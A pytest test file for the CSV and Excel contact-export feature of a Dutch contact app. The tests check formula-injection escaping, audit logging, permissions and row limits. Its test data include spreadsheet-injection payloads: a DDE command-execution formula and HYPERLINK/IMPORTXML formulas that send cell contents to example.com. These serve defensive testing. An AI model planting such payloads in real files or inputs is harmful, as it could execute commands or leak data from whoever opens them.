"""Taking the result of a search along."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest
from sqlalchemy import func, select

from contactapp.contacts import exporting
from contactapp.contacts.exporting import harmless, separated, workbook
from contactapp.contacts.models import RoleKind
from contactapp.db import db
from contactapp.events.log import events_of, sentence
from contactapp.events.models import AccessRecord, Event
from tests.support import sign_in
from tests.support.browser import Browser
from tests.support.cast import Cast
from tests.support.make import contacts as make
from tests.support.queries import recorded_queries

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NASTY = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1;"Klik")',
    '=IMPORTXML(CONCAT("http://example.com/";A1);"//a")',
    "@import",
    "＝1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "-2+3+cmd|' /C calc'!D2",
]
USUAL = [
    "",
    "Vos",
    "A. van den Berg",
    "1 = 1",
    "info@example.nl",
    "Jansen-Vos",
    "06 12345678",
    "'t Hof",
    'Café "Oog"; Utrecht',
]


def table(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def cells(content: bytes) -> tuple[list[str], str]:
    """The texts of a workbook and the XML of its sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    return ["".join(item.itertext()) for item in strings.iter(f"{SHEET}si")], sheet


@pytest.mark.parametrize("text", NASTY)
def test_a_text_that_looks_like_a_formula_is_made_harmless_in_csv(text: str):
    [[cell, after]] = table(separated([[text, "Vos"]]))
    assert cell == f"'{text}"
    assert after == "Vos"


@pytest.mark.parametrize("text", USUAL)
def test_an_ordinary_text_stays_as_it_is(text: str):
    assert harmless(text) == text
    assert table(separated([[text, "Vos"]])) == [[text, "Vos"]]


@pytest.mark.usefixtures("app")
@pytest.mark.parametrize("text", NASTY)
def test_a_workbook_holds_text_and_never_a_formula_or_a_link(text: str):
    texts, sheet = cells(workbook([[text, "http://example.com"]]))
    assert len(texts) == 2
    assert texts[0].strip() == text.strip() or "_x" in texts[0]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


@pytest.mark.usefixtures("app")
def test_the_columns_of_a_workbook_are_as_wide_as_what_stands_in_them():
    _texts, sheet = cells(workbook([["Nr."], ["A. van der Testenburg-Öztürk"]]))
    [column] = ElementTree.fromstring(sheet).iter(f"{SHEET}col")
    assert float(column.get("width", "0")) > len("A. van der Testenburg")


def test_the_found_contacts_come_in_the_order_of_the_screen(browser: Browser, cast: Cast):
    household = make.household("Öztürk", initials="A.", name_prefix="", do_not_call=True)
    make.address(household, "3571ZL", 48, street="Wilgenkade")
    make.phone(household, "+31612345678")
    make.role(make.person("Haile", initials="Y.", name_prefix=""), household, RoleKind.CO_TENANT)
    make.household("Vos", initials="A.", name_prefix="")
    page = browser.sign_in(cast.dirk).get("/contacts?q=ozt")
    form = page.form("Downloaden als CSV")
    response = browser.client.post(form.action, data=form.data())
    assert response.headers["Content-Disposition"].startswith("attachment; filename=contacten-")
    heading, *rows = table(response.data)
    [shown] = [dict(zip(heading, row, strict=True)) for row in rows]
    assert shown["Contactnummer"] == household.number
    assert shown["Naam"] == "A. Öztürk"
    assert shown["Adres"] == "Wilgenkade 48"
    assert shown["Liever niet bellen"] == "ja"
    assert shown["Personen"] == "Y. Haile (medehuurder)"


def test_the_choice_of_kind_and_role_counts_for_the_file_too(browser: Browser, cast: Cast):
    make.household("Bouw", initials="A.", name_prefix="")
    make.organisation("Bouwmeester Advies B.V.")
    page = browser.sign_in(cast.dirk).get("/contacts?q=bouw&kind=organisation")
    form = page.form("Downloaden als CSV")
    assert len(table(browser.client.post(form.action, data=form.data()).data)) == 2


def test_more_is_taken_along_than_one_screen_shows(browser: Browser, cast: Cast):
    for _ in range(30):
        make.household("Vos", initials="A.", name_prefix="")
    response = post(browser.sign_in(cast.dirk), {"q": "vos", "format": "csv"})
    assert len(table(response.data)) == 31


def test_who_took_whom_along_is_logged(browser: Browser, cast: Cast):
    found = [make.household("Vos", initials=letter, name_prefix="") for letter in ("A.", "B.")]
    post(browser.sign_in(cast.dirk), {"q": "vos", "format": "xlsx"})
    event = events_of(cast.dirk)[-1]
    assert sentence(event, reader=cast.dirk) == "Je nam 2 contacten mee als xlsx (gezocht: ‘vos’)."
    seen = select(AccessRecord.contact_id).where(
        AccessRecord.user_id == cast.dirk.id, AccessRecord.screen == "contact-export"
    )
    assert sorted(db.session.scalars(seen)) == sorted(contact.id for contact in found)


def test_a_workbook_comes_as_one(browser: Browser, cast: Cast):
    make.household("=1+1", initials="", name_prefix="")
    make.household("Vos", initials="A.", name_prefix="")
    response = post(browser.sign_in(cast.dirk), {"q": "vos", "format": "xlsx"})
    assert response.headers["Content-Disposition"].endswith(".xlsx")
    assert "A. Vos" in cells(response.data)[0]


def test_too_many_are_refused_and_nothing_is_logged(browser: Browser, cast: Cast, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 1)
    for _ in range(2):
        make.household("Vos", initials="A.", name_prefix="")
    browser.sign_in(cast.dirk)
    assert "Zoek iets preciezer" in browser.post("/contacts/exports", {"q": "vos", "format": "csv"}).text
    assert db.session.scalar(select(func.count()).where(Event.verb == "contacts.exported")) == 0
    assert db.session.scalar(select(func.count()).where(AccessRecord.screen == "contact-export")) == 0


def test_an_unknown_kind_of_file_is_refused(browser: Browser, cast: Cast):
    assert browser.sign_in(cast.dirk).post("/contacts/exports", {"q": "vos", "format": "exe"}).status == 422


def test_who_may_not_export_gets_no_button_and_no_file(browser: Browser, cast: Cast):
    make.household("Vos", initials="A.", name_prefix="")
    browser.sign_in(cast.anna)
    assert "Downloaden" not in browser.get("/contacts?q=vos").text
    assert browser.post("/contacts/exports", {"q": "vos", "format": "csv"}).status == 403


def test_a_stranger_signs_in_first(browser: Browser):
    assert "/login" in browser.client.post("/contacts/exports", data={"format": "csv"}).location


def test_a_long_file_asks_no_more_queries_per_contact(browser: Browser, cast: Cast):
    browser.sign_in(cast.dirk)
    counts = []
    for _ in range(2):
        for _ in range(20):
            make.address(make.household("Vos", initials="A.", name_prefix=""))
        with recorded_queries() as queries:
            post(browser, {"q": "vos", "format": "csv"})
        counts.append(len([sql for sql in queries if sql.lstrip().upper().startswith("SELECT")]))
    assert counts[1] <= counts[0]


def post(browser: Browser, data: dict[str, str]):
    token = sign_in.csrf_token(browser.client)
    return browser.client.post("/contacts/exports", data=data, headers={"X-CSRFToken": token})
